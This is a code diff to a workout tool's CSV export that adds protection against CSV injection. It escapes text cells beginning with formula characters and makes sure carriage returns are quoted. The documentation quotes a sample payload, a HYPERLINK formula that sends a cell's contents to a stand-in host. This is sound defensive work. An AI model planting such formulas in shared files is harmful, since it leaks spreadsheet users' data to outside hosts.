@@ -26,6 +26,13 @@ Numbers are plain (`12`, `20.0`), text is as written in the files, and the csv m
 the quoting. A set that was reached but not finished (skipped, or cut short by stopping) is
 still a row, with what was done in it.
 
+One exception to "as written": a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`,
+a tab or a carriage return as a formula, and a routine, exercise, band or device name is text
+anyone who shares a routine file or a synced folder can choose (`=HYPERLINK("http://x/?"&A1)`).
+So, as OWASP advises against CSV injection, such a text cell gets a leading `'`, which
+spreadsheets show as the text itself. Only text columns: the numbers are written by bandtimer
+and are never negative, and JSON keeps every text exactly.
+
 **JSON** (`--format json`): a list of every record with everything it holds, segment timing
 included. Keys are the ones the TOML files use, with `null` where a file leaves a key out, and
 datetimes are ISO 8601 with their UTC offset.
@@ -111,28 +118,52 @@ def csv_rows(records: Iterable[WorkoutRecord]) -> Iterator[list[str]]:
     """The rows under the `CSV_COLUMNS` header: one per set, oldest workout first."""
     for record in chronological(records):
         date = f"{record.started:%Y-%m-%d %H:%M:%S}"
-        workout = [record.id, record.status.value, record.device]
+        workout = [text_cell(record.id), record.status.value, text_cell(record.device)]
         for entry in record.exercises:
             for number, (reps, seconds) in enumerate(_sets(entry), start=1):
                 yield [
                     date,
-                    record.routine.name,
-                    entry.name,
+                    text_cell(record.routine.name),
+                    text_cell(entry.name),
                     entry.side.value if entry.side is not None else "",
                     str(number),
                     reps,
                     seconds,
-                    entry.band or "",
+                    text_cell(entry.band or ""),
                     entry.feel.value if entry.feel is not None else "",
                     *workout,
                 ]
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection")."""
+
+
+def text_cell(text: str) -> str:
+    """A text from a file as a CSV cell a spreadsheet shows and never runs."""
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 def write_csv(records: Iterable[WorkoutRecord], out: TextIO) -> None:
     """The header and every row, `\\n` line endings (spreadsheets and `csv` read either)."""
-    writer = csv.writer(out, lineterminator="\n")
+    writer = csv.writer(_UnixLineEnds(out), lineterminator="\r\n")
     writer.writerow(CSV_COLUMNS)
     writer.writerows(csv_rows(records))
+
+
+class _UnixLineEnds:
+    """Ends each row `\\n` instead of `\\r\\n`.
+
+    The csv module quotes a cell holding a character of its line terminator; with a terminator
+    of `\\n` alone, Python 3.11 wrote a carriage return in a name unquoted, and a reader then
+    split the row there. So the writer ends rows `\\r\\n` (quoting both) and this turns each
+    row's end, which it writes in one call, into `\\n`."""
+
+    def __init__(self, out: TextIO) -> None:
+        self._out = out
+
+    def write(self, row: str) -> int:
+        return self._out.write(row[:-2] + "\n" if row.endswith("\r\n") else row)
 
 
 def csv_text(records: Iterable[WorkoutRecord]) -> str:
